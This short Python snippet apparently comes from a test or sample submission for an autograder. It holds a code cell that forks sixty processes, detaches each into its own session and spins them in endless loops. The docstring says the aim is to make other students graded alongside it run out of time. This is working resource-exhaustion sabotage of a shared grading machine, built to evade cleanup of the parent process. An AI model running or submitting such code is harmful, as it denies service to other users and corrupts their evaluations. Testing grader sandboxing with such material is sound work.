"""Starts sixty processes that compute without end, each in a session of its own, so that the students graded beside it run out of time."""
CELL = r'''
import os, time
for _ in range(60):
    if os.fork() == 0:
        os.setsid()
        while True:
            pass
time.sleep(2.5)
'''
